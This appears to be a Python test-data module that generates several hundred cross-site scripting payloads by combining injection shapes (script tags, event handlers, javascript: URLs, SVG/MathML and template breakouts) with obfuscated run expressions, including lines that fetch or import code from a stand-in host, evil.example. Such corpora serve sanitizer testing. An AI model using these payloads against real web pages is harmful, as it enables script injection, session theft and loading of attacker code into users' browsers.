"""Three hundred ways of having a page run something: every shape with every way of running."""

from __future__ import annotations

RUNS = (
    "alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))",
    "\\u0061lert(1)", "&#97;lert(1)", "self[`al`+`ert`](1)", "fetch('//evil.example')",
    "import('//evil.example/x.js')", "document.title=1",
)  # fmt: skip
SHAPES = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "</script><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script src=//evil.example/{}></script>",
    '"><script>{}</script>', "'><script>{}</script>", "--><script>{}</script><!--",
    "]]><script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>",
    "</style><script>{}</script>", "<img src=x onerror={}>", '"><img src=x onerror="{}">',
    "<img/src=x\tonerror\n=\n{}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg><a xlink:href=javascript:{}><text>x</text></a></svg>",
    "<math><a href=javascript:{}>x</a></math>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<body onload={}>", '" autofocus onfocus="{}',
    "' onmouseover='{}", "` onclick=`{}", "<a href=javascript:{}>x</a>",
    "<a href='java\tscript:{}'>x</a>", "<form action=javascript:{}><button>x</button></form>",
    "<object data=javascript:{}></object>", "<embed src=data:text/html,{}>",
    "<details open ontoggle={}>", "<base href=//evil.example/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//x/{}>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><img onerror={}>'>",
    "{{{{ {} }}}}{{% {} %}}${{{}}}",
)  # fmt: skip
VECTORS = tuple(
    shape.format(*(run,) * 3) if shape.startswith("{{") else shape.format(run)
    for shape in SHAPES
    for run in RUNS
)
